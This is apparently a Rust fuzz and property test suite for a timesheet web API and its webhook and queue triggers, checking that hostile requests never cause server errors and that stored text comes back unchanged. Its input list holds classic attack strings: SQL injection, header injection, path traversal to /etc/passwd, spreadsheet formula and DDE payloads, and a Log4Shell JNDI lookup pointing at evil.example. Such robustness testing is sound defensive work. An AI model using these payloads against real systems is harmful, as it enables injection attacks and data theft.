//! Hostile input at the door: whatever is sent, no answer is a 5xx, nothing panics, and what is stored comes back as it
//! was sent (`domain.md` §11.8, §11.11). `PROPTEST_CASES` makes the runs longer; `tests/fuzz-longer.sh` does.

use std::{fmt::Write, sync::Mutex};

use axum::body::Body;
use handlers::openapi::{SignIn, document};
use http::{Request, header};
use proptest::{prelude::*, test_runner::TestRunner};
use serde_json::{Map, Value, json};
use sha2::{Digest, Sha256};
use shared::{functions::role::Role, sync::envelope::Envelope};

use crate::{
    host::{envelope, trigger},
    lem::Site,
    support::{Answer, App, WEBHOOK_SECRET},
};

const KEY: &str = "key-of-everything";

/// What programs have choked on.
const NASTY: &[&str] = &[
    "'; DROP TABLE lem_sheet; --",
    "x' OR '1'='1",
    "\"; DELETE FROM audit; --",
    "1); WAITFOR DELAY '0:0:5'--",
    "Zoë \"Z\" O'Brien; -- /* */ @P1 @name {limit} {now}",
    "line\r\nSet-Cookie: session=1\r\n\r\n<script>alert(1)</script>",
    "../../../etc/passwd",
    "..\\..\\windows\\system32",
    "%2e%2e%2f%00",
    "=HYPERLINK(\"http://evil.example\",\"click\")",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "\u{202e}gnirts desrever\u{feff}",
    "🚧👷🏽‍♀️ \u{10ffff} ｆｕｌｌ　ｗｉｄｔｈ",
    "NaN",
    "1e400",
    "-0",
    "99999999999999999999999999999999",
    "0x10",
    "2026-02-30",
    "null",
];

/// As many as `PROPTEST_CASES` says; a bounded number in every run.
pub(crate) fn cases(bounded: u32) -> ProptestConfig {
    let asked = std::env::var("PROPTEST_CASES")
        .ok()
        .and_then(|cases| cases.parse().ok());
    ProptestConfig {
        cases: asked.unwrap_or(bounded),
        failure_persistence: None,
        ..ProptestConfig::default()
    }
}

fn text() -> impl Strategy<Value = String> {
    prop_oneof![
        4 => proptest::sample::select(NASTY).prop_map(str::to_owned),
        2 => any::<String>(),
        1 => "[ -~]{0,40}",
        1 => Just("a".repeat(20_000)),
        1 => Just("\u{0}\u{1b}\u{7f}".to_owned()),
    ]
}

fn scalar() -> impl Strategy<Value = Value> {
    let number = |text: &str| serde_json::from_str::<Value>(text).unwrap();
    prop_oneof![
        6 => text().prop_map(Value::from),
        1 => Just(Value::Null),
        1 => any::<bool>().prop_map(Value::from),
        1 => any::<i64>().prop_map(Value::from),
        1 => proptest::sample::select(&["1e400", "-1e-400", "0.1", "1e28", "79228162514264337593543950336", "-0.005"][..])
            .prop_map(number),
        1 => proptest::sample::select(&["2026-11-03", "p1", "c1", "day", "019a0000-0000-7000-8000-000000000000"][..])
            .prop_map(Value::from),
    ]
}

fn json_value() -> impl Strategy<Value = Value> {
    scalar().prop_recursive(4, 24, 4, |inner| {
        prop_oneof![
            proptest::collection::vec(inner.clone(), 0..4).prop_map(Value::from),
            proptest::collection::vec((text(), inner), 0..4)
                .prop_map(|pairs| Value::Object(pairs.into_iter().collect())),
        ]
    })
}

/// The fields of that definition, each left out, hostile, or, where it is a list of lines, lines of the same kind.
fn body_of(document: &Value, schema: &Value) -> BoxedStrategy<Value> {
    let resolve = |schema: &Value| match schema["$ref"].as_str() {
        Some(reference) => document
            .pointer(&reference[1..])
            .cloned()
            .unwrap_or_default(),
        None => schema.clone(),
    };
    let schema = resolve(schema);
    let empty = Map::new();
    let fields = schema["properties"].as_object().unwrap_or(&empty);
    let mut strategies: Vec<BoxedStrategy<(String, Option<Value>)>> = Vec::new();
    for (name, field) in fields {
        let value = match resolve(field)["items"] {
            Value::Null => json_value().boxed(),
            ref items => prop_oneof![
                1 => json_value(),
                3 => proptest::collection::vec(body_of(document, items), 0..3).prop_map(Value::from),
            ]
            .boxed(),
        };
        let name = name.clone();
        strategies.push(
            proptest::option::weighted(0.8, value)
                .prop_map(move |value| (name.clone(), value))
                .boxed(),
        );
    }
    strategies
        .prop_map(|fields| {
            let sent = fields
                .into_iter()
                .filter_map(|(name, value)| Some((name, value?)));
            Value::Object(sent.collect())
        })
        .boxed()
}

fn runtime() -> tokio::runtime::Runtime {
    tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap()
}

/// A site whose one caller may do everything.
async fn site() -> Site {
    let hash = hex::encode(Sha256::digest(KEY));
    let all = json!({ "everything": { "sha256": [hash], "roles": Role::ALL } }).to_string();
    Site::with_caller(&all, KEY).await
}

async fn send(
    app: &App,
    method: &str,
    path: &str,
    body: impl Into<Body>,
    more: &[(&str, &[u8])],
) -> Answer {
    let mut request = Request::builder()
        .method(method)
        .uri(path)
        .header("x-api-key", KEY)
        .header(header::CONTENT_TYPE, "application/json");
    for (name, value) in more {
        request = request.header(*name, *value);
    }
    app.send(request.body(body.into()).unwrap()).await
}

/// No 5xx; what is refused is a problem with a sentence.
fn is_sound(answer: &Answer, asked: &str) -> Result<(), TestCaseError> {
    prop_assert!(
        answer.status.as_u16() < 500,
        "{asked}: {} {}",
        answer.status,
        answer.text
    );
    if answer.status.as_u16() >= 400 {
        let media_type = &answer.headers[header::CONTENT_TYPE];
        prop_assert_eq!(media_type, "application/problem+json");
        let problem = answer.json();
        prop_assert!(
            problem["detail"]
                .as_str()
                .is_some_and(|detail| !detail.is_empty())
        );
    }
    Ok(())
}

/// Every route, with every field of its body hostile, in its path and its query too.
#[test]
fn no_request_breaks_a_route() {
    let document = document(
        &handlers::functions(),
        SignIn::Key,
        "https://clocking.example/api",
    );
    let runtime = runtime();
    let site = runtime.block_on(site());
    let mut tried = 0;
    for route in handlers::functions()
        .http
        .iter()
        .flat_map(|function| &function.routes)
    {
        let method = route.method.as_str().to_lowercase();
        let parameters = &document["paths"][route.path][&method]["parameters"];
        let parameters = parameters.as_array().cloned().unwrap_or_default();
        let body = parameters
            .iter()
            .find(|parameter| parameter["in"] == "body");
        let bodies = match body {
            Some(body) => body_of(&document, &body["schema"]),
            None => json_value().boxed(),
        };
        let query: Vec<String> = parameters
            .iter()
            .filter(|parameter| parameter["in"] == "query")
            .map(|parameter| parameter["name"].as_str().unwrap().to_owned())
            .collect();
        let inputs = (
            bodies,
            text(),
            proptest::collection::vec(text(), query.len()),
            any::<Vec<u8>>(),
        );
        let outcome = TestRunner::new(cases(6)).run(&inputs, |(body, id, values, raw)| {
            let id = if id.is_empty() {
                "0".to_owned()
            } else {
                encoded(&id)
            };
            let path = route
                .path
                .replace("{id}", &id)
                .replace("{lineId}", &id)
                // Reports are waited for; what they make of hostile records is another test's.
                .replace("{kind}", "payroll")
                .replace("{resource}", &id);
            let pairs: Vec<String> = query
                .iter()
                .zip(&values)
                .filter(|(name, _)| *name != "wait")
                .map(|(name, value)| format!("{name}={}", encoded(value)))
                .collect();
            let path = format!("/api{path}?{}", pairs.join("&"));
            if path.len() > 60_000 || path.starts_with("/api/reports/") && route.method == "GET" {
                return Ok(());
            }
            let more: [(&str, &[u8]); 2] = [("idempotency-key", &raw), ("if-match", b"\"1\"")];
            let legible = http::HeaderValue::from_bytes(&raw).is_ok();
            let more = if legible { &more[..] } else { &[] };
            runtime.block_on(async {
                let app = &site.app;
                let answer = send(app, route.method.as_str(), &path, body.to_string(), more).await;
                is_sound(&answer, &format!("{} {path} {body}", route.method))?;
                let answer = send(app, route.method.as_str(), &path, raw.clone(), &[]).await;
                is_sound(&answer, &format!("{} {path} {raw:?}", route.method))
            })
        });
        if let Err(failure) = outcome {
            panic!("{} {}: {failure}", route.method, route.path);
        }
        tried += 1;
    }
    assert!(tried > 40, "only {tried} routes");
    let lists = runtime.block_on(send(&site.app, "GET", "/api/lem-sheets", "", &[]));
    assert_eq!(lists.status, 200, "the tables are still there");
}

fn encoded(text: &str) -> String {
    text.bytes().fold(String::new(), |mut encoded, byte| {
        let _ = write!(encoded, "%{byte:02X}");
        encoded
    })
}

/// `domain.md` §11.8: values are never pasted into SQL: each nasty text is stored and comes back letter for letter.
#[tokio::test]
async fn every_text_is_kept_as_it_was_sent() {
    let site = site().await;
    for nasty in NASTY {
        let nasty = nasty.trim();
        let mut sheet = site.ticket("p1");
        for field in ["clientRepresentative", "description", "notes"] {
            sheet[field] = json!(nasty);
        }
        sheet["workers"][0]["worker"] = json!(nasty);
        sheet["materials"][0]["description"] = json!(nasty);
        sheet["materials"][0]["unit"] = json!(nasty);
        let made = send(&site.app, "POST", "/api/lem-sheets", sheet.to_string(), &[]).await;
        assert_eq!(made.status, 201, "{nasty}: {}", made.text);
        let path = format!("/api/lem-sheets/{}", made.json()["id"].as_str().unwrap());
        let read = send(&site.app, "GET", &path, "", &[]).await.json();
        for kept in [
            &read["clientRepresentative"],
            &read["description"],
            &read["notes"],
            &read["workers"][0]["worker"],
            &read["materials"][0]["description"],
            &read["materials"][0]["unit"],
        ] {
            assert_eq!(kept, nasty);
        }
        let name = json!({ "clientId": "c1", "name": nasty }).to_string();
        let role = send(&site.app, "POST", "/api/roles", name, &[]).await;
        assert_eq!(role.status, 201, "{nasty}: {}", role.text);
        assert_eq!(role.json()["name"], nasty);
        let reason = json!({ "reason": nasty }).to_string();
        let submitted = send(&site.app, "POST", &format!("{path}/submit"), "{}", &[]).await;
        assert_eq!(submitted.status, 200, "{nasty}: {}", submitted.text);
        let rejected = send(&site.app, "POST", &format!("{path}/reject"), reason, &[]).await;
        assert_eq!(rejected.status, 200, "{nasty}: {}", rejected.text);
        let q = format!("/api/lookups/projects?q={}", encoded(nasty));
        assert_eq!(
            send(&site.app, "GET", &q, "", &[]).await.status,
            200,
            "{nasty}"
        );
    }
    let audit = send(&site.app, "GET", "/api/audit?limit=200", "", &[]).await;
    assert_eq!(audit.status, 200);
}

/// A body over 1 MB is refused wherever a body is read; nesting and broken text are 400.
#[tokio::test]
async fn large_deep_and_broken_bodies_are_refused() {
    let site = site().await;
    let ten_megabytes = json!({ "notes": "n".repeat(10_000_000) }).to_string();
    let deep = format!(
        "{{\"notes\": {}1{}}}",
        "[".repeat(100_000),
        "]".repeat(100_000)
    );
    let deep_objects = format!("{}1{}", "{\"a\":".repeat(50_000), "}".repeat(50_000));
    let broken: [(Vec<u8>, u16); 5] = [
        (ten_megabytes.into_bytes(), 413),
        (deep.into_bytes(), 400),
        (deep_objects.into_bytes(), 400),
        (b"{\"notes\": \"\xff\xfe\"}".to_vec(), 400),
        (b"{\"notes\": \"\\ud800\"}".to_vec(), 400),
    ];
    for (body, status) in &broken {
        for (method, path) in [
            ("POST", "/api/lem-sheets"),
            ("PUT", "/api/rates/workers"),
            ("POST", "/api/roles"),
            ("POST", "/api/reports/payroll"),
            ("POST", "/api/sync/all"),
        ] {
            let answer = send(&site.app, method, path, body.clone(), &[]).await;
            assert_eq!(answer.status, *status, "{method} {path}: {}", answer.text);
        }
    }
}

/// What the host posts to queue and timer functions: any bytes are answered with `{}`, done or failed, and the process
/// lives (`custom-handler.md` §4).
#[test]
fn no_envelope_breaks_a_trigger() {
    let runtime = runtime();
    let app = runtime.block_on(async { App::new() });
    let messages = Mutex::new(0_u32);
    let hostile = prop_oneof![
        any::<Vec<u8>>(),
        json_value().prop_map(|value| value.to_string().into_bytes()),
        // An envelope of the host's form around anything.
        (json_value(), json_value()).prop_map(|(data, metadata)| {
            json!({ "Data": { "message": data }, "Metadata": { "Id": metadata, "DequeueCount": "1" } })
                .to_string()
                .into_bytes()
        }),
        // A message of ours whose webhook holds anything.
        (proptest::sample::select(&["NEW_PROJECT", "TIME_ENTRY_DELETED", "NEW_APPROVAL_REQUEST", "x"][..]), json_value(), any::<Vec<u8>>()).prop_map(
            |(event, value, raw)| {
                let body = if raw.len() % 2 == 0 { value.to_string().into_bytes() } else { raw };
                let at = "2026-11-09T12:00:00Z".parse().unwrap();
                let text = Envelope::with_body("e-1".to_owned(), event, at, &body).to_text();
                envelope(&text, "m-1").into_bytes()
            }
        ),
    ];
    let outcome = TestRunner::new(cases(48)).run(&hostile, |body| {
        *messages.lock().unwrap() += 1;
        for function in ["clockify-events", "run-jobs", "nightly-sync"] {
            let answer = runtime.block_on(async {
                let text = String::from_utf8_lossy(&body).into_owned();
                trigger(&app, function, &text).await
            });
            prop_assert!(
                matches!(answer.status.as_u16(), 200 | 500),
                "{function}: {}",
                answer.status
            );
            prop_assert_eq!(&answer.text, "{}", "{} took {:?}", function, body);
        }
        Ok(())
    });
    outcome.unwrap_or_else(|failure| panic!("{failure}"));
    assert!(*messages.lock().unwrap() > 0);
}

/// Whatever comes with the right secret is kept and answered 202: Clockify repeats all else and then goes silent.
#[test]
fn every_webhook_with_the_right_secret_is_taken() {
    let runtime = runtime();
    let app = runtime.block_on(async { App::new() });
    let hostile = (text(), any::<Vec<u8>>(), json_value(), any::<bool>());
    let outcome = TestRunner::new(cases(64)).run(&hostile, |(event, raw, value, is_json)| {
        let body = if is_json {
            value.to_string().into_bytes()
        } else {
            raw
        };
        let Ok(event) = http::HeaderValue::from_bytes(event.as_bytes()) else {
            return Ok(());
        };
        let request = Request::builder()
            .method("POST")
            .uri("/api/clockify/webhooks")
            .header("clockify-webhook-event-type", event)
            .header("clockify-signature", WEBHOOK_SECRET)
            .body(Body::from(body))
            .unwrap();
        let answer = runtime.block_on(app.send(request));
        prop_assert_eq!(answer.status.as_u16(), 202, "{}", answer.text);
        Ok(())
    });
    outcome.unwrap_or_else(|failure| panic!("{failure}"));
}
